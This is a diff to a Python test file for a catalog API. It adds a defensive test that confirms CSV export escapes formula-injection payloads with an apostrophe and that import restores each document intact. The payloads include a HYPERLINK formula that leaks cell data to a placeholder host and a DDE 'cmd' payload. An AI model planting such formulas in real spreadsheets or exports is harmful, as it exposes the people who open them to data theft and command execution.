@@ -4,7 +4,9 @@ chain's metadata hash, reads say whether the two still agree; search, export and
 from __future__ import annotations
 
 import copy
+import csv
 import hashlib
+import io
 import json
 from typing import Any
 from urllib.parse import parse_qsl
@@ -143,6 +145,34 @@ def test_export_then_import_restores_every_document(api_env: ApiEnv) -> None:
         for r in before:
             if r["verified"]:
                 assert after[r["id"]] == r
+
+
+@pytest.mark.parametrize(
+    "title", ['=HYPERLINK("http://example.invalid/?"&A1,"打开")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)",
+              "\t=1", "\r=1"],
+)  # fmt: skip
+def test_export_csv_textCellsCannotBeFormulas_importRestoresTheExactDocument(
+    api_env: ApiEnv, title: str
+) -> None:
+    """A department's title or description is never a formula in the CSV an auditor opens in a spreadsheet
+    (OWASP's CSV injection): a cell that would start with = + - @ or a tab or carriage return is exported
+    behind an apostrophe; the document column, which import reads, is the canonical JSON as it was."""
+    record = register(api_env, "psb", document(title=title, **{"dct:description": title}))
+    exported = api_env.call("GET", "/resources/export", "auditor", params=api_env.indexed(format="csv"))
+    rows = list(csv.DictReader(io.StringIO(exported.text)))
+    (row,) = [r for r in rows if r["id"] == str(record["id"])]
+    assert (row["title"], row["description"]) == ("'" + title, "'" + title)
+    assert json.loads(row["metadata"]) == record["metadata"]
+    sql(api_env, "DELETE FROM api_catalog_documents WHERE metadata_hash = :h", h=record["metadata_hash"])
+    out = io.StringIO()
+    writer = csv.DictWriter(out, fieldnames=list(rows[0]))
+    writer.writeheader()
+    writer.writerow(row)
+    assert (
+        ok(api_env.call("POST", "/resources/import", "hrss", json={"csv": out.getvalue()}))["imported"] == 1
+    )
+    restored = ok(api_env.call("GET", f"/resources/{record['id']}", "auditor"))
+    assert (restored["metadata"]["dct:title"], restored["verified"]) == (title, True)
 
 
 def test_import_refuses_a_document_not_the_entrys(api_env: ApiEnv) -> None:
